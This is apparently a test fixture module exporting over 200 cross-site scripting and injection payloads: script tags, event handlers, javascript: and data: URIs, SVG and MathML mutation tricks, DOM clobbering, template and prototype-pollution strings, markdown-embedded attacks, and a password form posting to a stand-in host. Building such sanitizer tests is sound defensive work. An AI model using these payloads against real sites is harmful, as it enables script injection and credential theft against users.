/** What a hostile text does once anything of it runs: it is seen by a dialog, a global or a request. */
const RUN = 'pwned=1;alert(1)'
const ELSEWHERE = 'http://elsewhere.test/x'

const SCRIPTS = [
  `<script>${RUN}</script>`,
  `<SCRIPT SRC=${ELSEWHERE}.js></SCRIPT>`,
  `<script\t>${RUN}</script\t>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<<script>${RUN}//<</script>`,
  `<script type=module>import '${ELSEWHERE}'</script>`,
  `<script>\n\n${RUN}\n\n</script>`,
  `"><script>${RUN}</script>`,
  `'><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `--><script>${RUN}</script><!--`,
  `]]><script>${RUN}</script>`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;script&#62;${RUN}&#60;/script&#62;`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `<script x>${RUN}</script y>`,
  `<template><script>${RUN}</script></template>`
]

const HANDLERS = [
  ...['img src=x', 'img src=x:x', 'IMG SRC=x', 'img/src=x', 'image src=x', 'img srcset=x'].map(
    (tag) => `<${tag} onerror=${RUN}>`
  ),
  ...[
    'svg',
    'svg/',
    'body',
    'iframe',
    'marquee',
    'input autofocus',
    'style',
    'link rel=stylesheet href=x'
  ].map((tag) => `<${tag} onload=${RUN} onfocus=${RUN} onstart=${RUN}>`),
  ...['audio', 'video', 'source', 'object', 'embed', 'track'].map((tag) => `<${tag} src=x onerror=${RUN}>`),
  `<details open ontoggle=${RUN}><summary>x</summary></details>`,
  `<select autofocus onfocus=${RUN}>`,
  `<textarea autofocus onfocus=${RUN}>`,
  `<keygen autofocus onfocus=${RUN}>`,
  `<div tabindex=0 autofocus onfocus=${RUN}>x</div>`,
  `<p style="animation: spin 1s" onanimationstart=${RUN}>x</p>`,
  `<p onpointerenter=${RUN} onmouseover=${RUN} onclick=${RUN}>hover</p>`,
  `<video><source onerror=${RUN}></video>`,
  `<dialog open onclose=${RUN}>x</dialog>`,
  `<img src=x onerror="&#97;lert(1);pwned=1">`,
  `<img src=x oNeRrOr=\`${RUN}\`>`,
  `<img src="x" onerror\n=\n"${RUN}">`,
  `<img src=x\u00a0onerror=${RUN}>`,
  `<img src=x onerror\u0000=${RUN}>`,
  `<a href=x onclick=${RUN}>x</a>`,
  `<button popovertarget=p onclick=${RUN}>x</button><div popover id=p onbeforetoggle=${RUN}>x</div>`,
  `<x contenteditable onblur=${RUN}>x</x>`,
  `<img alt="\`><img src=x onerror=${RUN}>">`
]

const ELEMENTS = [
  `<iframe src=javascript:${RUN}></iframe>`,
  `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
  `<iframe src="${ELSEWHERE}"></iframe>`,
  `<object data=javascript:${RUN}></object>`,
  `<object data="${ELSEWHERE}"></object>`,
  `<embed src=javascript:${RUN}>`,
  `<embed src="${ELSEWHERE}">`,
  `<base href="http://elsewhere.test/">`,
  `<meta http-equiv=refresh content="0;url=${ELSEWHERE}">`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<meta http-equiv=Content-Security-Policy content="script-src *">`,
  `<link rel=stylesheet href="${ELSEWHERE}.css">`,
  `<link rel=prefetch href="${ELSEWHERE}">`,
  `<link rel=dns-prefetch href="//elsewhere.test">`,
  `<style>@import '${ELSEWHERE}.css'; * { background: url(${ELSEWHERE}) }</style>`,
  `<style>body { display: none }</style>`,
  `<p style="background:url(${ELSEWHERE})">x</p>`,
  `<p style="position:fixed;inset:0;z-index:99">over all</p>`,
  `<form action="${ELSEWHERE}"><input name=password><button>Send</button></form>`,
  `<form action=javascript:${RUN}><button>x</button></form>`,
  `<button form=x formaction=javascript:${RUN}>x</button>`,
  `<input type=image src="${ELSEWHERE}" formaction=javascript:${RUN}>`,
  `<isindex action=javascript:${RUN} type=image>`,
  `<img src="${ELSEWHERE}.png">`,
  `<img srcset="${ELSEWHERE}.png 1x">`,
  `<picture><source srcset="${ELSEWHERE}.png"><img></picture>`,
  `<a href="${ELSEWHERE}" ping="${ELSEWHERE}">x</a>`,
  `<a href="javascript:${RUN}">x</a>`,
  `<area shape=default href=javascript:${RUN}>`,
  `<table background="${ELSEWHERE}.png"><tr><td>x</table>`,
  `<body background="${ELSEWHERE}.png">`,
  `<video poster="${ELSEWHERE}.png"></video>`,
  `<audio src="${ELSEWHERE}.mp3" autoplay></audio>`,
  `<frameset><frame src=javascript:${RUN}></frameset>`,
  `<portal src="${ELSEWHERE}"></portal>`,
  `<applet code=x></applet>`,
  `<bgsound src="${ELSEWHERE}">`,
  `<template shadowrootmode=open><script>${RUN}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  `<plaintext>`,
  `<xmp><img src=x onerror=${RUN}></xmp>`,
  `<!--[if IE]><script>${RUN}</script><![endif]-->`,
  `<?xml-stylesheet href="javascript:${RUN}"?>`,
  `<!DOCTYPE html [<!ENTITY x SYSTEM "${ELSEWHERE}">]>`,
  `<slot name=x><img src=x onerror=${RUN}></slot>`
]

const FOREIGN = [
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script href="data:text/javascript,${RUN}"></script></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y=20>x</text></a></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s></svg>`,
  `<svg><a><animate attributeName=href values="javascript:${RUN}"/><text y=20>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>${RUN}</script></svg>#x"/></svg>`,
  `<svg><use href="${ELSEWHERE}.svg#x"/></svg>`,
  `<svg><image href="${ELSEWHERE}.png"/></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>${RUN}</script>"></iframe></foreignObject></svg>`,
  `<svg><foreignObject><body onload=${RUN}></foreignObject></svg>`,
  `<svg><style>@import '${ELSEWHERE}';</style></svg>`,
  `<svg><set attributeName=onmouseover to="${RUN}"></svg>`,
  `<svg><desc><![CDATA[</desc><script>${RUN}</script>]]></svg>`,
  `<svg><title><img src=x onerror=${RUN}></title></svg>`,
  `<math><mtext><img src=x onerror=${RUN}></mtext></math>`,
  `<math href="javascript:${RUN}">x</math>`,
  `<math><maction actiontype="statusline#${ELSEWHERE}" xlink:href="javascript:${RUN}">x</maction></math>`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror=${RUN}></annotation-xml></math>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;">`,
  `<math><mtext><table><mglyph><style><math><img src=x onerror=${RUN}>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${RUN}>`,
  `<svg></p><style><a id="</style><img src=x onerror=${RUN}>">`,
  `<svg><p><style><g title="</style><img src=x onerror=${RUN}>">`,
  `<noembed><img title="</noembed><img src=x onerror=${RUN}>"></noembed>`,
  `<table><caption><svg><title><table><tr><td></svg><img src=x onerror=${RUN}>`,
  `<a><table><a><img src=x onerror=${RUN}></table></a>`,
  `<select><template><img src=x onerror=${RUN}></template></select>`,
  `<p><svg><title><a id="</title><img src=x onerror=${RUN}>"></svg>`,
  `<style><!--</style><img src=x onerror=${RUN}>--></style>`,
  `<textarea><img title="</textarea><img src=x onerror=${RUN}>"></textarea>`
]

const CLOBBERING = [
  ...['app', 'content', 'message', 'search', 'pinned', 'document', 'body', 'cookie', 'location'].map(
    (name) => `<a id=${name}></a><img name=${name}><form id=${name}><input name=attributes></form>`
  ),
  '<form id=x><input name=parentNode><input name=nodeName><input name=textContent></form>',
  '<img name=currentScript><embed name=getElementById>',
  '<iframe name=pwned></iframe>',
  '{{constructor.constructor("pwned=1")()}}',
  `\${pwned=1}`,
  '<%= pwned=1 %>',
  '#{pwned=1}',
  '__proto__',
  '{"__proto__":{"pwned":1}}',
  "[[$&]] $` $' $1 $$"
]

/** Addresses that run something, or load it. */
const ADDRESSES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\tscript:${RUN}`,
  `&#106;avascript:${RUN}`,
  `javascript&colon;${RUN}`,
  `javascript&Tab;:${RUN}`,
  `\u0001javascript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  'data:text/html;base64,PHNjcmlwdD5wd25lZD0xO2FsZXJ0KDEpPC9zY3JpcHQ+',
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>`,
  `vbscript:${RUN}`,
  'blob:null/x',
  'file:///etc/passwd',
  '//elsewhere.test/x',
  `${ELSEWHERE}?"onerror="${RUN}`
]

const IN_MARKDOWN = ADDRESSES.flatMap((address) => [
  `[link](<${address}>)`,
  `![image](<${address}>)`,
  `[link][x]\n\n[x]: <${address}>`,
  `<${address}>`,
  `[link](${address.replaceAll(/[<> ]/g, '')} "title\\" onmouseover=${RUN} x=\\"")`
])

const MARKDOWN = [
  `![x" onerror="${RUN}](${ELSEWHERE}.png)`,
  `![x](x" onerror="${RUN})`,
  `![x](data:image/png;base64,x" onerror="${RUN})`,
  `![<img src=x onerror=${RUN}>](data:image/png;base64,AA==)`,
  `![x](data:image/png;base64,AA== "x\\" onerror=${RUN} ")`,
  `[<img src=x onerror=${RUN}>](http://example.test)`,
  `[x](http://example.test/"onmouseover="${RUN})`,
  `[![x](javascript:${RUN})](javascript:${RUN})`,
  `\`\`\`"><img src=x onerror=${RUN}>\nx\n\`\`\``,
  `\`\`\`js" onmouseover="${RUN}\nx\n\`\`\``,
  `\`\`\`html\n<script>${RUN}</script>\n</code></pre><img src=x onerror=${RUN}>\n\`\`\``,
  `~~~</code></pre><script>${RUN}</script>\nx\n~~~`,
  `    </code><img src=x onerror=${RUN}>`,
  `\`</code><img src=x onerror=${RUN}>\``,
  `| <img src=x onerror=${RUN}> | b |\n|:-" onmouseover="${RUN}|---|\n| <script>${RUN}</script> | d |`,
  `# <img src=x onerror=${RUN}> {#app}`,
  `> <iframe src=javascript:${RUN}>`,
  `- [x] <input onfocus=${RUN} autofocus>`,
  `1. <svg onload=${RUN}>`,
  `**<b onmouseover=${RUN}>x</b>**`,
  `~~<s onmouseover=${RUN}>x</s>~~`,
  `Footnote[^1]\n\n[^1]: <img src=x onerror=${RUN}>`,
  `<div>\n\n![x](${ELSEWHERE}.png)\n\n</div>`,
  `<p>a\n\n<script>${RUN}\n\n</script>`,
  `[x]: javascript:${RUN} '"><img src=x onerror=${RUN}>'\n[x]`,
  `www.example.test/"onmouseover="${RUN}`,
  `https://example.test/<img src=x onerror=${RUN}>`,
  `a@example.test"onmouseover="${RUN}`,
  `<http://example.test/"onmouseover="${RUN}>`,
  `\\<img src=x onerror=${RUN}\\>`,
  `&lt;img src=x onerror=${RUN}&gt;`,
  `&amp;lt;img src=x onerror=${RUN}&amp;gt;`,
  `<img\u2028src=x onerror=${RUN}>`,
  `\ufeff<img src=x onerror=${RUN}>`,
  `<im\u0000g src=x onerror=${RUN}>`,
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  `＜script＞${RUN}＜/script＞`,
  `\u202e<script>${RUN}</script>`,
  `"><img src=x onerror=${RUN}>`,
  `' onmouseover='${RUN}`,
  `" autofocus onfocus="${RUN}" x="`,
  `\` onmouseover=\`${RUN}`
]

/** More than 200, each another one. */
export const PAYLOADS = [
  ...new Set([...SCRIPTS, ...HANDLERS, ...ELEMENTS, ...FOREIGN, ...CLOBBERING, ...IN_MARKDOWN, ...MARKDOWN])
]
